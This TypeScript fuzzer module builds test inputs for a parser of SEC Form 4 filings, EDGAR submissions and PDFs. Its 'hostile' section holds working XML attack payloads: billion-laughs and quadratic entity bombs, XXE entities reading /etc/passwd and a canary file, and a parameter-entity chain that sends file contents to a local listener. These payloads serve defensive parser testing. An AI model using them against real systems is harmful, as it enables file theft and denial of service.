/**
 * The fuzzer's inputs, as a deterministic list: the same options give the same cases in the same order, so the
 * main thread and its worker build identical lists and any case is rebuilt alone from its number.
 *
 * Families, in run order:
 *  hostile    hand-aimed inputs: size limits, enormous text nodes, deep nesting, entity bombs, external entities,
 *             NUL bytes, floods of markup, many rows/owners/footnotes, SGML/HTML/PDF specials
 *  corpus     every corpus file as it is (the baseline)
 *  pdf        real PDFs truncated, corrupted in streams and xref, junk after %PDF-
 *  truncate   real text filings cut at every tag boundary (a few files), at sampled boundaries (the rest)
 *  encoding   real filings re-encoded: UTF-16 with and without BOM, lying declarations, BOMs, CRLF/CR
 *  random     real filings through 1..4 random mutators (byte flips, element duplication and deletion, ...)
 */
import * as fs from 'node:fs';
import * as path from 'node:path';
import { Rng, caseSeed, randomText } from './rng';
import { ENCODINGS, MUTATORS, elementRanges, fromLatin1, latin1, tagBoundaries, type Bytes } from './mutators';
import { hostilePdfCases } from './pdf';
import { generatedCases } from './generators';

export interface FuzzOptions {
  seed: number;
  /** Random-mutation cases. */
  iterations: number;
  /** Short form for CI: fewer files truncated at every boundary, fewer samples. */
  ci: boolean;
  corpusDir: string;
  /** A file whose content must never show up in any output (referenced as an external entity). */
  canaryPath: string;
  canaryText: string;
  /** Port of the local HTTP listener that counts requests (external entities point at it). */
  httpPort: number;
  /** Put two inputs first that must fail (one throws, one spins): proves the harness catches both. */
  selfTest?: boolean;
}

export interface FuzzCase {
  name: string;
  family: 'hostile' | 'corpus' | 'pdf' | 'truncate' | 'encoding' | 'random';
  /** Built lazily (some inputs are 25 MB). */
  build(): Bytes;
  /** Strings that must not appear in the JSON or the rendered output. */
  mustNotContain?: string[];
  /** Only with --self-test: make the worker throw ('crash') or spin forever ('hang') instead of inspecting. */
  selfTest?: 'crash' | 'hang';
  /** An extra check of the outcome: a message when it fails. */
  expect?: (o: { ok: boolean; reason?: string; json?: string }) => string | null;
}

export const TEXT_DIRS = ['xml', 'doc', 'txt', 'html'];
export const PDF_DIRS = ['pdf', 'pdf-printed'];

export function listCorpus(dir: string, subs: string[]): string[] {
  const out: string[] = [];
  for (const sub of subs) {
    const d = path.join(dir, sub);
    if (!fs.existsSync(d)) continue;
    for (const f of fs.readdirSync(d).sort()) if (fs.statSync(path.join(d, f)).isFile()) out.push(path.join(d, f));
  }
  return out;
}

const cache = new Map<string, Buffer>();
function read(p: string): Buffer {
  let b = cache.get(p);
  if (!b) {
    b = fs.readFileSync(p);
    if (cache.size < 2000) cache.set(p, b);
  }
  return b;
}

const short = (p: string): string => `${path.basename(path.dirname(p))}/${path.basename(p)}`;

/** Put `inner` into a <remarks> element of an ownership document (replacing any there). */
function withRemarks(doc: string, inner: string): string {
  const noRemarks = doc.replace(/<remarks>[\s\S]*?<\/remarks>|<remarks\s*\/>/, '');
  return noRemarks.replace('</ownershipDocument>', `<remarks>${inner}</remarks></ownershipDocument>`);
}
/** Replace the text of the first `<name>...</name>` (or of its `<value>` child). */
function withValue(doc: string, name: string, inner: string): string {
  const re = new RegExp(`(<${name}>\\s*(?:<value>)?)([^<]*)`);
  if (!re.test(doc)) throw new Error(`fuzz base has no <${name}>`);
  return doc.replace(re, (_m, open: string) => open + inner);
}
/** Insert `inner` right after the first start tag of `name`. */
function after(doc: string, name: string, inner: string): string {
  const i = doc.indexOf(`<${name}`);
  const gt = doc.indexOf('>', i);
  if (i < 0 || gt < 0) throw new Error(`fuzz base has no <${name}>`);
  return doc.slice(0, gt + 1) + inner + doc.slice(gt + 1);
}
/** The document with its first element `name` repeated `n` times. */
function repeatElement(doc: string, name: string, n: number): string {
  const el = elementRanges(doc).find((e) => e.name === name);
  if (!el) throw new Error(`fuzz base has no <${name}>`);
  return doc.slice(0, el.end) + doc.slice(el.start, el.end).repeat(n - 1) + doc.slice(el.end);
}

const XML_DECL = '<?xml version="1.0" encoding="UTF-8"?>\n';

export function buildCases(o: FuzzOptions): FuzzCase[] {
  const cases: FuzzCase[] = [];
  const textFiles = listCorpus(o.corpusDir, TEXT_DIRS);
  const pdfFiles = listCorpus(o.corpusDir, PDF_DIRS);
  const find = (part: string, from: string[]): string => {
    const f = from.find((p) => p.includes(part));
    if (!f) throw new Error(`corpus file *${part}* not found under ${o.corpusDir}`);
    return f;
  };
  // Bases for the hostile inputs: a Form 4 with both tables and footnotes, a submission, an EDGAR HTML page.
  const xmlPath = find('secapi__tesla-form4.xml', textFiles);
  const subPath = find('0000899243-22-035394.txt', textFiles);
  const htmlPath = find('form4.Evans.html', textFiles);
  const pdfPath = pdfFiles.find((p) => p.includes('/pdf/')) ?? pdfFiles[0];
  const X = (): string => latin1(read(xmlPath));
  const S = (): string => latin1(read(subPath));
  const H = (): string => latin1(read(htmlPath));
  const http = `http://127.0.0.1:${o.httpPort}`;
  const leak = [o.canaryText, 'root:x:0:0'];

  const add = (c: Omit<FuzzCase, 'family'>, family: FuzzCase['family'] = 'hostile'): void => {
    cases.push({ ...c, family });
  };
  const s = (name: string, make: () => string, extra: Partial<FuzzCase> = {}): void =>
    add({ name, build: () => fromLatin1(make()), ...extra });

  if (o.selfTest) {
    add({ name: 'self-test-crash', build: () => Buffer.from('<x/>'), selfTest: 'crash' });
    add({ name: 'self-test-hang', build: () => Buffer.from('<x/>'), selfTest: 'hang' });
  }

  // ---- hostile: sizes and limits -------------------------------------------------------------------------------
  const MAX = 25 * 1024 * 1024;
  const overLimit = (r: { ok: boolean; reason?: string }): string | null =>
    !r.ok && /limit/.test(r.reason ?? '')
      ? null
      : `expected the size-limit reason, got ${r.ok ? 'a filing' : JSON.stringify(r.reason)}`;
  s('empty', () => '');
  s('one-byte-lt', () => '<');
  s('only-bom', () => '\xef\xbb\xbf');
  s('only-xml-declaration', () => XML_DECL);
  s('unclosed-declaration', () => '<?xml version="1.0"');
  s('unclosed-comment', () => XML_DECL + '<ownershipDocument><!-- ' + 'x'.repeat(100_000));
  s('unclosed-cdata', () => XML_DECL + '<ownershipDocument><remarks><![CDATA[' + 'x'.repeat(100_000));
  s('unclosed-doctype', () => '<!DOCTYPE ownershipDocument [ <!ENTITY a "' + 'x'.repeat(100_000));
  s('over-size-limit', () => X() + ' '.repeat(MAX + 1 - read(xmlPath).length), { expect: overLimit });
  s('at-size-limit-whitespace', () => X() + ' '.repeat(MAX - read(xmlPath).length));
  s('at-size-limit-comment', () => {
    const x = X();
    return x + '<!--' + 'c'.repeat(MAX - x.length - 7) + '-->';
  });
  s('lt-flood-25mb', () => '<'.repeat(MAX));
  s('lt-flood-in-document', () => withRemarks(X(), '< '.repeat(1_000_000)));
  s('amp-flood-in-document', () => withRemarks(X(), '&'.repeat(2_000_000)));
  s('unknown-entity-flood', () => withRemarks(X(), '&foo;'.repeat(500_000)));
  s('charref-flood', () => withRemarks(X(), '&#x10FFFF;&#0;&#xD800;'.repeat(200_000)));
  s('close-tag-flood', () => withRemarks(X(), '</x>'.repeat(500_000)));
  s('close-tag-flood-root', () => '</ownershipDocument>'.repeat(1_000_000));
  s('gt-flood', () => withRemarks(X(), '>'.repeat(5_000_000)));
  s('cr-flood', () => withRemarks(X(), '\r'.repeat(5_000_000)));
  s('newline-flood', () => withRemarks(X(), '\n'.repeat(5_000_000)));
  s('pi-flood', () => withRemarks(X(), '<?x?>'.repeat(500_000)));
  s('comment-flood', () => withRemarks(X(), '<!---->'.repeat(500_000)));
  s('cdata-flood', () => withRemarks(X(), '<![CDATA[]]>'.repeat(500_000)));
  s('bad-markup-flood', () => withRemarks(X(), '<!x>'.repeat(500_000)));
  s('attribute-flood', () =>
    after(X(), 'ownershipDocument', '').replace(
      '<ownershipDocument',
      '<ownershipDocument' + Array.from({ length: 200_000 }, (_, i) => ` a${i}="v"`).join(''),
    ),
  );
  s('duplicate-attribute-flood', () =>
    X().replace('<ownershipDocument', '<ownershipDocument' + ' a="v"'.repeat(200_000)),
  );
  s('unquoted-attribute-flood', () => X().replace('<ownershipDocument', '<ownershipDocument' + ' a=v'.repeat(200_000)));
  s('element-count-flood', () => withRemarks(X(), '<a/>'.repeat(1_000_000)));
  s('element-count-flood-nested-pairs', () => withRemarks(X(), '<a></a>'.repeat(800_000)));
  // Enormous text nodes (5 MB) in every kind of field.
  const FIVE = 5 * 1024 * 1024;
  s('huge-remarks-5mb', () => withRemarks(X(), 'x'.repeat(FIVE)));
  s('huge-remarks-words-5mb', () => withRemarks(X(), 'word '.repeat(FIVE / 5)));
  s('huge-footnote-5mb', () => X().replace(/(<footnote id="F1">)/, '$1' + 'y '.repeat(FIVE / 2)));
  s('huge-owner-name-5mb', () => withValue(X(), 'rptOwnerName', 'N'.repeat(FIVE)));
  s('huge-decimal-5mb', () => withValue(X(), 'transactionShares', '9'.repeat(FIVE)));
  s('huge-decimals-shares-price', () =>
    withValue(
      withValue(X(), 'transactionShares', '9'.repeat(1_000_000)),
      'transactionPricePerShare',
      '9'.repeat(1_000_000),
    ),
  );
  s('huge-fraction-digits', () => withValue(X(), 'sharesOwnedFollowingTransaction', '1.' + '3'.repeat(1_000_000)));
  s('huge-exponent', () =>
    withValue(withValue(X(), 'transactionShares', '1e999999999'), 'transactionPricePerShare', '1E-999999999'),
  );
  s('huge-date-5mb', () => withValue(X(), 'transactionDate', '2'.repeat(FIVE)));
  s('huge-code-5mb', () => withValue(X(), 'transactionCode', 'S'.repeat(FIVE)));
  s('huge-security-title-5mb', () => withValue(X(), 'securityTitle', 'Common '.repeat(FIVE / 7)));
  s('huge-attribute-5mb', () => X().replace('<footnote id="F1"', `<footnote id="F1" x="${'a'.repeat(FIVE)}"`));
  s('huge-footnote-id-1mb', () => X().replace(/id="F1"/g, `id="F${'1'.repeat(1_000_000)}"`));
  s('huge-element-name-1mb', () => withRemarks(X(), `<${'n'.repeat(1_000_000)}>t</${'n'.repeat(1_000_000)}>`));
  s('huge-whitespace-between-tags', () => X().replace(/>\s*</g, '>' + ' '.repeat(20_000) + '<'));
  s('huge-single-line-file', () =>
    X()
      .replace(/[\r\n]+/g, ' ')
      .padEnd(4_000_000, ' '),
  );
  // Deep nesting.
  s('deep-nesting-100k-root', () => '<a>'.repeat(100_000) + '</a>'.repeat(100_000));
  s('deep-nesting-100k-in-document', () => withRemarks(X(), '<a>'.repeat(100_000) + 'deep' + '</a>'.repeat(100_000)));
  s('deep-nesting-100k-unclosed', () => after(X(), 'ownershipDocument', '<a>'.repeat(100_000)));
  s('deep-nesting-1m-unclosed-root', () => '<ownershipDocument>' + '<v>'.repeat(1_000_000));
  s('deep-nesting-values', () =>
    withValue(X(), 'transactionShares', '<value>'.repeat(50_000) + '5' + '</value>'.repeat(50_000)),
  );
  s('deep-nesting-footnote', () =>
    X().replace(/(<footnote id="F1">)/, '$1' + '<b>'.repeat(100_000) + 'x' + '</b>'.repeat(100_000)),
  );
  // Entity expansion bombs: a DOCTYPE is never interpreted.
  const lol = (): string => {
    let d = '<!ENTITY lol0 "lol">\n';
    for (let i = 1; i <= 12; i++) d += `<!ENTITY lol${i} "${`&lol${i - 1};`.repeat(10)}">\n`;
    return d;
  };
  const withDoctype = (subset: string, body: (x: string) => string = (x) => x): string =>
    XML_DECL + `<!DOCTYPE ownershipDocument [\n${subset}]>\n` + body(X().replace(/^\s*<\?xml[^>]*\?>\s*/, ''));
  s('billion-laughs', () =>
    withDoctype(lol(), (x) => withValue(withRemarks(x, '&lol12;'.repeat(100)), 'rptOwnerName', '&lol12;')),
  );
  s('quadratic-blowup', () =>
    withDoctype(`<!ENTITY big "${'A'.repeat(200_000)}">\n`, (x) => withRemarks(x, '&big;'.repeat(50_000))),
  );
  s('parameter-entity-bomb', () =>
    withDoctype(
      '<!ENTITY % p0 "x">' +
        Array.from({ length: 20 }, (_, i) => `<!ENTITY % p${i + 1} "%p${i};%p${i};">`).join('') +
        '%p20;',
      (x) => withRemarks(x, 'r'),
    ),
  );
  s('recursive-entity', () => withDoctype('<!ENTITY a "&b;"><!ENTITY b "&a;">', (x) => withRemarks(x, '&a;')));
  // External entities and other ways of reaching out: nothing may be read or fetched.
  const xxe = (name: string, subset: string, use: string): void =>
    s(name, () => withDoctype(subset, (x) => withValue(withRemarks(x, use), 'rptOwnerName', use)), {
      mustNotContain: leak,
    });
  xxe('xxe-etc-passwd', '<!ENTITY xxe SYSTEM "file:///etc/passwd">', '&xxe;');
  xxe('xxe-canary-file', `<!ENTITY xxe SYSTEM "file://${o.canaryPath}">`, '&xxe;');
  xxe('xxe-canary-relative', `<!ENTITY xxe SYSTEM "${o.canaryPath}">`, '&xxe;');
  xxe('xxe-http', `<!ENTITY xxe SYSTEM "${http}/xxe-http">`, '&xxe;');
  xxe('xxe-public-http', `<!ENTITY xxe PUBLIC "-//X//EN" "${http}/xxe-public">`, '&xxe;');
  xxe('xxe-parameter-entity-http', `<!ENTITY % remote SYSTEM "${http}/xxe-param"> %remote;`, 'r');
  xxe(
    'xxe-parameter-entity-file',
    `<!ENTITY % file SYSTEM "file://${o.canaryPath}"><!ENTITY % eval "<!ENTITY &#x25; exfil SYSTEM '${http}/xxe-exfil?%file;'>"> %eval; %exfil;`,
    'r',
  );
  s(
    'external-dtd-http',
    () =>
      XML_DECL +
      `<!DOCTYPE ownershipDocument SYSTEM "${http}/external-dtd">\n` +
      X().replace(/^\s*<\?xml[^>]*\?>\s*/, ''),
    { mustNotContain: leak },
  );
  s(
    'xinclude-file',
    () =>
      withRemarks(
        X(),
        `<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://${o.canaryPath}" parse="text"/>`,
      ),
    { mustNotContain: leak },
  );
  s(
    'xinclude-http',
    () =>
      withRemarks(X(), `<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${http}/xinclude" parse="text"/>`),
    { mustNotContain: leak },
  );
  s('xml-stylesheet-http', () => `<?xml-stylesheet type="text/xsl" href="${http}/stylesheet"?>\n` + X(), {
    mustNotContain: leak,
  });
  s(
    'schema-location-http',
    () =>
      X().replace(
        '<ownershipDocument',
        `<ownershipDocument xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:noNamespaceSchemaLocation="${http}/schema.xsd"`,
      ),
    { mustNotContain: leak },
  );
  s(
    'html-external-resources',
    () =>
      H()
        .replace(
          '<head>',
          `<head><link rel="stylesheet" href="${http}/css"><script src="${http}/js"></script><base href="${http}/">`,
        )
        .replace('</body>', `<img src="${http}/img"><iframe src="file://${o.canaryPath}"></iframe></body>`),
    { mustNotContain: leak },
  );
  // NUL bytes and garbage.
  s('nul-in-value', () => withValue(X(), 'rptOwnerName', 'A\x00B'));
  s('nul-after-8kb', () => {
    const x = X();
    return x.slice(0, 9000) + '\x00' + x.slice(9000);
  });
  s('nul-flood', () => '\x00'.repeat(1_000_000));
  s('control-chars', () =>
    withRemarks(
      X(),
      Array.from({ length: 32 }, (_, i) => String.fromCharCode(i))
        .join('')
        .repeat(100),
    ),
  );
  s('random-bytes-1mb', () => randomText(o.seed, 1_000_000));
  s('random-ascii-1mb', () => randomText(o.seed + 1, 1_000_000, true));
  s('random-markup-soup', () => {
    const r = new Rng(o.seed + 2);
    const toks = [
      '<',
      '>',
      '</',
      '/>',
      'ownershipDocument',
      'value',
      'footnoteId id="F1"',
      '&amp;',
      '&',
      '"',
      '=',
      ' ',
      '\n',
      '<![CDATA[',
      ']]>',
      '<!--',
      '-->',
      '<?',
      '?>',
      'x',
    ];
    let out = '';
    while (out.length < 500_000) out += r.pick(toks);
    return out;
  });
  s('random-after-xml-declaration', () => XML_DECL + randomText(o.seed + 3, 200_000));
  // Many rows, owners, footnotes, signatures (the rules run over all of them).
  s('rows-2000-same-date', () => repeatElement(X(), 'nonDerivativeTransaction', 2000));
  s('rows-2000-derivative', () => repeatElement(X(), 'derivativeTransaction', 2000));
  s('rows-300-same-date-unbalanced', () => {
    // Running tally that never balances, all on one date: the same-date order search must stay bounded.
    const x = X();
    const el = elementRanges(x).find((e) => e.name === 'nonDerivativeTransaction');
    if (!el) throw new Error('no row');
    const row = x.slice(el.start, el.end);
    const rows = Array.from({ length: 300 }, (_, i) =>
      withValue(
        withValue(row, 'transactionShares', String(i * 7 + 1)),
        'sharesOwnedFollowingTransaction',
        String((i * 7919) % 1000),
      ),
    ).join('');
    return x.slice(0, el.start) + rows + x.slice(el.end);
  });
  s('owners-3000', () => repeatElement(X(), 'reportingOwner', 3000));
  s('footnotes-5000', () => repeatElement(X(), 'footnote', 5000));
  s('footnote-refs-50000', () =>
    withValue(X(), 'transactionShares', '5</value>' + '<footnoteId id="F1"/>'.repeat(50_000) + '<value>'),
  );
  s('signatures-5000', () => repeatElement(X(), 'ownerSignature', 5000));
  s('documents-nested', () => {
    const x = X().replace(/^\s*<\?xml[^>]*\?>\s*/, '');
    return x.replace('</ownershipDocument>', x + '</ownershipDocument>');
  });
  s('documents-200-concatenated', () => X().repeat(200));
  // EDGAR submissions.
  s('submission-header-only', () => S().slice(0, S().indexOf('<DOCUMENT>')));
  s('submission-xml-unclosed', () => S().replace(/<\/XML>/g, ''));
  s('submission-xml-nested', () => S().replace('<XML>', '<XML>\n<XML>\n'));
  s('submission-many-documents', () => {
    const x = S();
    const i = x.indexOf('<DOCUMENT>');
    const j = x.indexOf('</DOCUMENT>') + 11;
    return (
      x.slice(0, j) + x.slice(i, j).repeat(Math.min(10_000, Math.floor(20_000_000 / Math.max(1, j - i)))) + x.slice(j)
    );
  });
  s('submission-100000-xml-markers', () => S().replace('<XML>', '<XML>'.repeat(100_000)));
  s('submission-header-long-line', () =>
    S().replace(
      'CONFORMED SUBMISSION TYPE:',
      'COMPANY CONFORMED NAME:' + 'Z'.repeat(FIVE) + '\nCONFORMED SUBMISSION TYPE:',
    ),
  );
  s('submission-100000-owner-sections', () => {
    const x = S();
    const m = /REPORTING-OWNER:[\s\S]*?(?=\n\S|\n\n(?:ISSUER|REPORTING|<))/.exec(x);
    return m ? x.replace(m[0], m[0].repeat(50_000)) : x;
  });
  s(
    'submission-pem-unclosed',
    () =>
      '-----BEGIN PRIVACY-ENHANCED MESSAGE-----\nProc-Type: 2001,MIC-CLEAR\n' +
      S().replace(/-----END PRIVACY-ENHANCED MESSAGE-----/g, ''),
  );
  s('submission-sec-header-flood', () => '<SEC-HEADER>'.repeat(1_000_000));
  s('submission-crlf', () => S().replace(/\r?\n/g, '\r\n'));
  s('submission-cr-only', () => S().replace(/\r?\n/g, '\r'));
  // EDGAR HTML.
  s('html-colspan-huge', () => H().replace(/<td/gi, '<td colspan="2147483647" rowspan="2147483647"'));
  s('html-colspan-negative', () => H().replace(/<td/gi, '<td colspan="-5" rowspan="NaN"'));
  s('html-nested-tables-100k', () => H().replace('</body>', '<table><tr><td>'.repeat(100_000) + '</body>'));
  s('html-unclosed-everything', () => H().replace(/<\/[a-z]+>/gi, ''));
  s('html-cell-5mb', () => H().replace(/<td([^>]*)>/i, `<td$1>${'c'.repeat(FIVE)}`));
  s('html-rows-100k', () => H().replace(/<\/table>/i, '<tr><td>1</td><td>2</td></tr>'.repeat(100_000) + '</table>'));
  s('html-script-with-tags', () =>
    H().replace('</body>', '<script>document.write("</td></tr></table>")</script><style>td{}</style></body>'),
  );
  s('html-comment-unclosed', () => H().replace('<body', '<!-- <body'));
  // Plain/OCR text of a form.
  s(
    'form-text-long-lines',
    () =>
      'FORM 4\nUNITED STATES SECURITIES AND EXCHANGE COMMISSION\nStatement of Changes in Beneficial Ownership\n' +
      ('1. Name and Address of Reporting Person* ' + 'Q'.repeat(1_000_000) + '\n').repeat(3),
  );
  s(
    'form-text-many-lines',
    () =>
      'FORM 4\nSTATEMENT OF CHANGES IN BENEFICIAL OWNERSHIP OF SECURITIES\nTable I - Non-Derivative Securities Acquired, Disposed of, or Beneficially Owned\n' +
      'Common Stock 01/02/2024 S 100 D $1.00 1,000 D\n'.repeat(200_000),
  );
  // What mutation cannot reach: super-linear pattern shapes, prototype names, control characters, long numbers.
  for (const g of generatedCases(X, H)) s(g.name, g.make, g.expect ? { expect: g.expect } : {});
  // PDFs (the reader runs with its own time limit; see src/core/pdf).
  for (const c of hostilePdfCases(o.seed, () => read(pdfPath))) add({ name: c.name, build: c.make });

  // ---- the corpus as it is -----------------------------------------------------------------------------------------
  for (const f of [...textFiles, ...pdfFiles]) add({ name: `corpus:${short(f)}`, build: () => read(f) }, 'corpus');

  // ---- PDFs: truncated, corrupted, junk -----------------------------------------------------------------------------
  const pdfSample = o.ci ? pdfFiles.filter((_, i) => i % 4 === 0) : pdfFiles;
  for (const f of pdfSample) {
    const fracs = o.ci ? [0.5] : [0.05, 0.3, 0.6, 0.95];
    for (const fr of fracs)
      add(
        {
          name: `pdf-truncate-${Math.round(fr * 100)}%:${short(f)}`,
          build: () => read(f).subarray(0, Math.floor(read(f).length * fr)),
        },
        'pdf',
      );
    const variants = o.ci ? 2 : 6;
    for (let k = 0; k < variants; k++) {
      const idx = cases.length;
      add(
        {
          name: `pdf-corrupt-${k}:${short(f)}`,
          build: () => {
            const r = new Rng(caseSeed(o.seed, idx));
            const b = Buffer.from(read(f));
            const t = latin1(b);
            if (k % 3 === 0) {
              // Damage bytes inside stream data (compressed content).
              const starts: number[] = [];
              for (let i = t.indexOf('stream'); i !== -1 && starts.length < 5000; i = t.indexOf('stream', i + 6))
                starts.push(i + 7);
              for (let j = 0; j < 20 && starts.length; j++)
                b[Math.min(b.length - 1, r.pick(starts) + r.int(200))] = r.int(256);
              return b;
            }
            if (k % 3 === 1) {
              // Damage the cross-reference table / trailer.
              const x = Math.max(0, t.lastIndexOf('xref'));
              for (let j = 0; j < 10; j++)
                b[Math.min(b.length - 1, x + r.int(Math.max(1, b.length - x)))] = r.pick([
                  0x30, 0x39, 0x20, 0x0a, 0x00, 0xff,
                ]);
              return b;
            }
            // Keep the header, replace everything after it with random bytes of the same length.
            const head = t.indexOf('%PDF-') + 8;
            for (let i = head; i < b.length; i++) b[i] = r.int(256);
            return b;
          },
        },
        'pdf',
      );
    }
  }

  // ---- truncation at tag boundaries --------------------------------------------------------------------------------
  const everyBoundary = o.ci
    ? [xmlPath, subPath]
    : [xmlPath, subPath, htmlPath, find('edgartools__form3.nosecurities.xml', textFiles)];
  for (const f of everyBoundary) {
    const n = tagBoundaries(latin1(read(f))).length;
    for (let k = 0; k < n; k++)
      add(
        { name: `truncate-all#${k}:${short(f)}`, build: () => read(f).subarray(0, tagBoundaries(latin1(read(f)))[k]) },
        'truncate',
      );
  }
  const perFile = o.ci ? 1 : 4;
  for (const f of textFiles) {
    if (everyBoundary.includes(f)) continue;
    for (let k = 0; k < perFile; k++) {
      const idx = cases.length;
      add(
        {
          name: `truncate#${k}:${short(f)}`,
          build: () => {
            const r = new Rng(caseSeed(o.seed, idx));
            const b = tagBoundaries(latin1(read(f)));
            return b.length ? read(f).subarray(0, r.pick(b)) : read(f).subarray(0, r.int(read(f).length));
          },
        },
        'truncate',
      );
    }
  }

  // ---- encodings ------------------------------------------------------------------------------------------------------
  const encFiles = o.ci ? textFiles.filter((_, i) => i % 5 === 0) : textFiles;
  for (const f of encFiles) {
    const encs = o.ci ? 1 : 3;
    for (let k = 0; k < encs; k++) {
      const idx = cases.length;
      const enc = ENCODINGS[caseSeed(o.seed, idx) % ENCODINGS.length];
      add({ name: `encoding-${enc.name}:${short(f)}`, build: () => enc.apply(read(f)) }, 'encoding');
    }
  }
  // Every encoding at least once on the XML base and the submission.
  for (const enc of ENCODINGS) {
    add({ name: `encoding-${enc.name}:${short(xmlPath)}`, build: () => enc.apply(read(xmlPath)) }, 'encoding');
    add({ name: `encoding-${enc.name}:${short(subPath)}`, build: () => enc.apply(read(subPath)) }, 'encoding');
  }

  // ---- random mutations ------------------------------------------------------------------------------------------------
  for (let k = 0; k < o.iterations; k++) {
    const idx = cases.length;
    const r0 = new Rng(caseSeed(o.seed, idx));
    // PDFs are about 6% of the corpus but slower; give them 1 case in 12.
    const f = r0.chance(1 / 12) ? r0.pick(pdfFiles) : r0.pick(textFiles);
    const isPdf = PDF_DIRS.some((d) => f.includes(`/${d}/`));
    const pool = MUTATORS.filter((m) => m.binary || !isPdf);
    const chain = Array.from({ length: r0.range(1, 4) }, () => r0.pick(pool));
    add(
      {
        name: `random#${k}[${chain.map((m) => m.name).join('+')}]:${short(f)}`,
        build: () => {
          const r = new Rng(caseSeed(o.seed, idx) ^ 0x5bd1e995);
          let b: Bytes = read(f);
          for (const m of chain) b = m.apply(b, r);
          return b;
        },
      },
      'random',
    );
  }
  return cases;
}
